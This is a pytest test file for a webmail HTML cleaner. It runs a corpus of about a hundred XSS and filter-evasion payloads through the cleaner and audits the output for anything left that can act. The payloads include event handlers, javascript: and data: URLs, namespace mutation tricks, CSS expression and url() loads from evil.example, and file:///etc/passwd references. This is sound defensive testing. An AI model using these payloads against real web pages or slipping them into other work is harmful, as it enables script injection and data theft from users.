"""A corpus of hostile HTML: what comes out is read again, and holds nothing that acts.

After the OWASP XSS filter evasion cheat sheet and the published bypasses of HTML
cleaners: mutation, namespaces, entities, broken tags.
"""

import base64
import random
from html.parser import HTMLParser

import pytest

from webmail.services.cleaning import ATTRIBUTES, STYLES, TAGS, clean_html
from webmail.services.reading import Attachment

CORPUS = [
    # handlers
    "<img src=x onerror=alert(1)>",
    "<img src=x oNeRrOr=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img\x0csrc=x\x0conerror=alert(1)>",
    "<img src=x onerror\n=\nalert(1)>",
    '<img """><script>alert(1)</script>">',
    "<p onclick=alert(1) onmouseover=alert(1)>x</p>",
    "<body onload=alert(1)>x",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<div style=animation-name:x onanimationstart=alert(1)>x</div>",
    "<input autofocus onfocus=alert(1)>",
    # addresses
    "<a href=javascript:alert(1)>x</a>",
    "<a href=JaVaScRiPt:alert(1)>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='java\x00script:alert(1)'>x</a>",
    "<a href=' &#14; javascript:alert(1)'>x</a>",
    "<a href='&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)'>x</a>",
    "<a href='&#x6A&#x61&#x76&#x61script:alert(1)'>x</a>",
    "<a href='javascript&colon;alert(1)'>x</a>",
    "<a href='java&Tab;script:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "<a href='blob:https://x/1'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='view-source:javascript:alert(1)'>x</a>",
    "<img src='javascript:alert(1)'>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<img src='cid:svg'>",
    "<img srcset='https://evil.example/x 1x'>",
    "<img lowsrc='javascript:alert(1)' dynsrc='javascript:alert(1)'>",
    "<table background='javascript:alert(1)'><tr><td background=https://evil.example>x</table>",
    "<form action=javascript:alert(1)><button formaction=javascript:alert(1)>x</button></form>",
    "<isindex action=javascript:alert(1)>",
    # other documents
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object><embed src=javascript:alert(1)>",
    "<applet code=x></applet><frameset><frame src=javascript:alert(1)></frameset>",
    "<portal src=https://evil.example></portal>",
    "<link rel=import href=https://evil.example><link rel=prefetch href=https://evil.example>",
    "<meta http-equiv=refresh content=0;url=javascript:alert(1)>",
    "<meta http-equiv=set-cookie content=a=b>",
    "<base href=javascript:alert(1)//><a href=x>x</a>",
    "<?xml-stylesheet href=javascript:alert(1)?><?php echo 1 ?>",
    "<!ENTITY x SYSTEM 'file:///etc/passwd'>&x;",
    # scripts
    "<script>alert(1)</script>",
    "<script src=https://evil.example/x.js></script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/xss src=https://evil.example></script>",
    "<<script>alert(1);//<</script>",
    "<script >alert(1)</script\t\n bar>",
    "<script>alert(1)",
    "<script\x00>alert(1)</script>",
    "\xbcscript\xbealert(1)\xbc/script\xbe",
    "<!--<img src='--><img src=x onerror=alert(1)//'>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<comment><img src='</comment><img src=x onerror=alert(1)//'>",
    # raw text and namespaces: what one parser takes for text and another for tags
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<textarea><p title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<title><p title='</title><img src=x onerror=alert(1)>'></title>",
    "<style><p title='</style><img src=x onerror=alert(1)>'></style>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<noembed><p title='</noembed><img src=x onerror=alert(1)>'></noembed>",
    "<noframes><p title='</noframes><img src=x onerror=alert(1)>'></noframes>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 "
    "onerror=alert(1)&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math><annotation-xml encoding=text/html><style><img src=x onerror=alert(1)></style>",
    "<select><style></select><script>alert(1)</script>",
    "<p><svg><p><style><!--</style><img src=x onerror=alert(1)>--></style>",
    "<a title='</a><img src=x onerror=alert(1)>'>x</a>",
    "<p title='&quot;&gt;&lt;img src=x onerror=alert(1)&gt;'>x</p>",
    "<p title='`onmouseover=alert(1)'>x</p>",
    "<img alt='`onerror=alert(1)' src=x>",
    # styles
    "<p style='background:url(https://evil.example/x)'>x</p>",
    "<p style='background-image:\\75\\72\\6C(https://evil.example)'>x</p>",
    "<p style='color:expression(alert(1))'>x</p>",
    "<p style='width:expr/**/ession(alert(1))'>x</p>",
    "<p style='-moz-binding:url(https://evil.example/x.xml)'>x</p>",
    "<p style='behavior:url(#default#time2)'>x</p>",
    "<p style='list-style:url(https://evil.example)'>x</p>",
    "<p style='list-style-image:url(https://evil.example)'>x</p>",
    "<p style='font-family:\\27\\3b background:url(https://evil.example)'>x</p>",
    "<p style='border-image:url(https://evil.example) 1'>x</p>",
    "<p style='border:1px solid url(https://evil.example)'>x</p>",
    "<p style='color:var(--x,url(https://evil.example))'>x</p>",
    "<p style='content:url(https://evil.example)'>x</p>",
    "<p style='cursor:url(https://evil.example),auto'>x</p>",
    "<p style='filter:url(https://evil.example#x)'>x</p>",
    "<p style='position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999'>x</p>",
    "<p style='font:12px url(https://evil.example)'>x</p>",
    "<p style='width:image-set(\"https://evil.example/x\" 1x)'>x</p>",
    "<style>@import 'https://evil.example/x.css'; body{background:url(https://evil.example)}",
    "<style>@font-face{font-family:x;src:url(https://evil.example)}</style>",
    # names that a page's own scripts could find
    "<a id=csrf name=body>x</a><p class='btn btn--primary'>x</p>",
    "<img name=cookie src=x>",
    # links that carry orders
    "<a hx-get=/console/ hx-trigger=load>x</a><p data-focus hx-on:click=alert(1)>x</p>",
    "<a href=https://evil.example ping=https://evil.example download>x</a>",
    "<a href=https://evil.example target=_top>x</a>",
]
PICTURE = Attachment(1, "x.svg", "image/svg+xml", b"<svg onload=alert(1)>", "svg")


class Audit(HTMLParser):
    """Notes every tag, attribute and address that is not allowed."""

    def __init__(self):
        super().__init__()
        self.wrong = []

    def handle_starttag(self, tag, attributes):
        if tag not in TAGS:
            self.wrong.append(tag)
        allowed = ATTRIBUTES["*"] | ATTRIBUTES.get(tag, set()) | {"rel", "target"}
        for name, value in attributes:
            if name not in allowed:
                self.wrong.append((tag, name))
            elif name == "style":
                self.style(value)
            elif name in ("href", "src"):
                self.address(tag, name, value)
            elif name == "target" and value != "_blank":
                self.wrong.append((name, value))

    def style(self, value):
        for declaration in filter(str.strip, value.split(";")):
            name, _, rest = declaration.partition(":")
            if name.strip() not in STYLES or any(c in rest.lower() for c in REACHES_OUT):
                self.wrong.append(("style", declaration))

    def address(self, tag, name, value):
        kind, colon, _ = value.strip().lower().partition(":")
        fine = {"href": ("http", "https", "mailto", "tel"), "src": ("cid",)}[name]
        if not (colon and kind in fine) and not value.startswith(SAFE_DATA):
            self.wrong.append((tag, name, value))

    def handle_comment(self, data):
        self.wrong.append(("comment", data))

    def handle_decl(self, decl):
        self.wrong.append(("declaration", decl))


REACHES_OUT = ("url(", "expression", "image-set", "javascript", "\\")
SAFE_DATA = ("data:image/png;", "data:image/jpeg;", "data:image/gif;", "data:image/webp;")


def found_in(html):
    audit = Audit()
    audit.feed(clean_html(html, inline={"svg": PICTURE}).html)
    audit.close()
    return audit.wrong


@pytest.mark.parametrize("html", CORPUS)
def test_nothing_that_acts_is_left(html):
    assert found_in(html) == []


@pytest.mark.parametrize("html", CORPUS)
def test_nothing_that_acts_is_left_within_other_tags(html):
    for around in ("<table><tr><td>{}", "<a title='{}'>x</a>", "<p>{}</p>", "<svg>{}</svg>"):
        assert found_in(around.format(html)) == []


@pytest.mark.parametrize("html", CORPUS)
def test_cleaning_what_is_clean_changes_nothing(html):
    # The first cleaning only puts attributes into their order.
    twice = clean_html(clean_html(html).html).html

    assert clean_html(twice).html == twice


def test_pieces_put_together_at_random_leave_nothing_that_acts():
    dice = random.Random(20261125)
    for _ in range(400):
        chosen = "".join(dice.sample(CORPUS, 4))
        cut = dice.randrange(len(chosen))
        html = chosen[cut:] + chosen[:cut]

        assert found_in(html) == [], html


def test_a_picture_within_the_message_is_shown():
    picture = Attachment(1, "p.png", "image/png", b"\x89PNG", "p")

    html = clean_html("<img src='cid:p' alt='p'>", inline={"p": picture}).html

    assert base64.b64encode(b"\x89PNG").decode() in html
